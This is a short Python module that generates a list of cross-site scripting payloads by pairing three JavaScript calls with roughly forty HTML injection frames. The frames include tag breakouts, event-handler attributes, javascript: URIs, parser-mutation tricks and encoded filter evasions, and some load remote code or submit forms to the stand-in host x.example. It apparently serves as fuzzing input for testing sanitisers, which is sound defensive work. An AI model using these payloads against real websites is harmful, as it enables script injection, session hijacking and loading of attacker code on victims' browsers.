"""Words that would run, were they ever taken for markup."""

from itertools import product

CALLS = ("alert(1)", "top.hit", "import('http://x.example/')")
FRAMES = (
    "<script>{}</script>", "</script><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>", '"><script>{}</script>', "'><script>{}</script>", "--><script>{}</script>",
    "<img src=x onerror={}>", '"><img src=x onerror="{}">', "' onmouseover='{}' x='",
    '" autofocus onfocus="{}" x="',
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<math><mtext><img src=x onerror={}></mtext></math>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src='javascript:{}'></iframe>",
    "<object data='javascript:{}'></object>", "<embed src='javascript:{}'>", "<base href='http://x.example/'>{}",
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<a href='javascript:{}'>x</a>", "javascript:{}", "data:text/html,<script>{}</script>",
    "<form action='http://x.example/'><button>{}</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=http://x.example/{}>", "<style>@import 'http://x.example/{}';</style>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><script>{}</script>'>",
    "<scr<script>ipt>{}</script>", "\u003cscript\u003e{}\u003c/script\u003e", "&lt;script&gt;{}&lt;/script&gt;",
    "{{{{ {} }}}}", "{{% raw %}}{}", "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<xss onafterscriptexecute={}>",
)  # fmt: skip
PAYLOADS = [frame.format(call) for call, frame in product(CALLS, FRAMES)]
